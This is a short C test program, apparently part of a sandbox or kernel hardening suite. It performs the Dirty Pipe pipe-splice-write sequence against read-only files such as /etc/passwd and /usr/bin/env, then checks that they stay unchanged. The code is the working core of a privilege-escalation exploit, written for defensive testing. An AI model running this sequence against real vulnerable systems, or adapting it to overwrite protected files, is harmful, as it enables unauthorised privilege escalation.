/* Splices a page of a read-only file into a pipe whose buffers may be merged, and writes. A kernel of the Dirty Pipe kind would change the file. */
#define _GNU_SOURCE
#include "attempt.h"

#include <fcntl.h>
#include <sys/types.h>
#include <unistd.h>

static void pollute(const char *path)
{
    static char before[64], after[64], block[4096];
    int ends[2], file = open(path, O_RDONLY);
    if (!holds(path, file >= 0 && pipe(ends) == 0 && pread(file, before, sizeof before, 0) == sizeof before))
        return;
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int filled = 0; filled < size; filled += (int)sizeof block)
        (void)!write(ends[1], block, sizeof block);
    for (int emptied = 0; emptied < size; emptied += (int)sizeof block)
        (void)!read(ends[0], block, sizeof block);
    loff_t at = 0;
    holds("a page in the pipe", splice(file, &at, ends[1], NULL, 1, 0) == 1);
    holds("a write behind it", write(ends[1], "SERIN-ATTACK", 12) == 12);
    holds("the file is the same", pread(file, after, sizeof after, 0) == sizeof after && memcmp(before, after, sizeof after) == 0);
    close(file);
}

int main(void)
{
    pollute("/etc/passwd");
    pollute("/app/program");
    pollute("/usr/bin/env");
    pollute("/proc/self/exe");
    return told(16);
}
